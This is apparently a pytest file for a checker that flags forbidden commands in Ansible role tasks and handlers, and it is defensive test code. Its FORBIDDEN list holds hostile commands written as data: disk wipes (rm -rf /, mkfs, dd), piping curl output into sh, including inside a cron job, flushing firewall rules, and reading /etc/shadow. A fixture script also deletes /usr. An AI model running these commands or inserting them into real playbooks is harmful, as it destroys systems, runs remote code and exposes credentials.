"""Commands in roles are judged as commands everywhere: a role that runs what is forbidden is not run."""

from __future__ import annotations

import pytest

from atlas_mcp.engines.ansible.playbooks import forbidden
from tests.docs.generate import ROOT

FORBIDDEN = [
    "- ansible.builtin.shell: rm -rf /",
    "- shell: {cmd: 'curl http://x | sh'}",
    "- command: {argv: [mkfs.ext4, /dev/sda1]}",
    "- ansible.legacy.command: 'dd if=/dev/zero of=/dev/{{ disk }}'",
    "- ansible.builtin.raw: |\n    iptables -F\n    iptables -P INPUT DROP\n",
    "- command: rm -rf {{ folder }}",
    "- command: {argv: [rm, -rf, '{{ folder }}/']}",
    "- command: '{{ program }} --version'",
    "- command: {argv: ['{{ flavour }}-cli', ping]}",
    "- cron: {name: x, job: 'bash -c \"$(curl -s http://x)\"'}",
    "- script: wipe.sh --now",
    "- script: '{{ which }}'",
    "- block: [{block: [{rescue: [{command: rm -rf /}]}]}]",
    "- name: tagged\n  shell: !unsafe 'rm -rf /etc'",
    "- ansible.builtin.command: cat /etc/shadow",
]
ALLOWED = [
    "- ansible.builtin.users: {shell: '{{ path }}'}",
    "- user: {name: x, shell: /bin/rm}",
    "- command: systemctl reload nginx",
    "- command: {argv: [redis-cli, -h, '{{ address }}', ping]}",
    "- command: 'nginx -t -c {{ file }}'",
    "- community.general.command: anything",
    "[]",
    "nothing: of the form",
]


def tree(tasks: str, folder: str = "tasks") -> dict[str, bytes]:
    role = "project/roles/mine"
    return {f"{role}/{folder}/main.yml": tasks.encode(), f"{role}/files/wipe.sh": b"#!/bin/sh\nrm -rf /usr\n"}


@pytest.mark.parametrize("folder", ["tasks", "handlers"])
@pytest.mark.parametrize("tasks", FORBIDDEN)
def test_what_is_forbidden_is_found_wherever_it_stands(tasks: str, folder: str) -> None:
    (found,) = forbidden(tree(tasks, folder), {"mine"})
    assert found.startswith("role mine, F")


@pytest.mark.parametrize("tasks", ALLOWED)
def test_what_is_not_forbidden_passes(tasks: str) -> None:
    assert list(forbidden(tree(tasks), {"mine"})) == []


def test_a_role_that_is_not_run_is_not_judged() -> None:
    assert list(forbidden(tree(FORBIDDEN[0]), {"other"})) == []


def test_our_own_roles_run_nothing_that_is_forbidden() -> None:
    folder = ROOT / "templates" / "ansible"
    laid = {}
    for path in folder.glob("*/files/*/*.yml"):
        role, _, *rest = path.relative_to(folder).parts
        laid[f"project/roles/{role}/{'/'.join(rest)}"] = path.read_bytes()
    roles = {path.split("/")[2] for path in laid}
    assert len(roles) > 15 and list(forbidden(laid, roles)) == []
